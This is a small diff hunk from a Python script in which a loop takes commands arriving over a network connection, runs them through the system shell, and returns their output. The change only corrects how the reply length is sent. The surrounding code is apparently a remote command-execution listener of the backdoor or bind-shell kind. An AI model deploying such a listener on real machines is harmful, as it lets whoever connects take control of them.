@@ -16,6 +16,6 @@ while True:
         done = subprocess.run(command.decode("utf-8"), shell=True, stdin=subprocess.DEVNULL,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
         answer = done.stdout + done.stderr
-        conn.send(struct.pack("i", len(answer)))
+        conn.sendall(struct.pack("<i", len(answer)))
         conn.sendall(answer)
     conn.close()
